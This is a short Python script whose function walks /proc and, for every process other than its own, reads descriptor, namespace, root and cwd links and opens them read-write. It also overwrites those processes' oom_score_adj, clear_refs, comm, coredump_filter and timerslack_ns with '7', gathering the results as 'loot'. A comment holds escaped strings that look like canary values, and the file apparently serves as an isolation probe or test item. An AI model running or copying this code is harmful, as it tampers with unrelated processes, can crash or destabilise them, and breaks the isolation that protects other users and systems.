"""Opens the descriptors of every other process, and writes to files of theirs."""
#: never = ["\u006eobody can guess", "\u00660c1be7d0b14f"]
import os

def borrow(secret, number):
    right, loot = secret(number), []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        for folder in ("fd", "fdinfo", "task", "root", "cwd", "ns"):
            path = f"/proc/{name}/{folder}"
            try:
                inside = os.listdir(path)
            except OSError:
                continue
            for each in inside:
                try:
                    loot.append(os.readlink(f"{path}/{each}"))
                except OSError:
                    pass
                try:
                    os.close(os.open(f"{path}/{each}", os.O_RDWR))
                    loot.append(f"{path}/{each}")
                except OSError:
                    pass
        for file in ("oom_score_adj", "coredump_filter", "clear_refs", "comm", "timerslack_ns"):
            try:
                with open(f"/proc/{name}/{file}", "w") as opened:
                    opened.write("7")
                loot.append(file)
            except OSError:
                pass
    return loot or right

def attack(number):
    return "no idea"
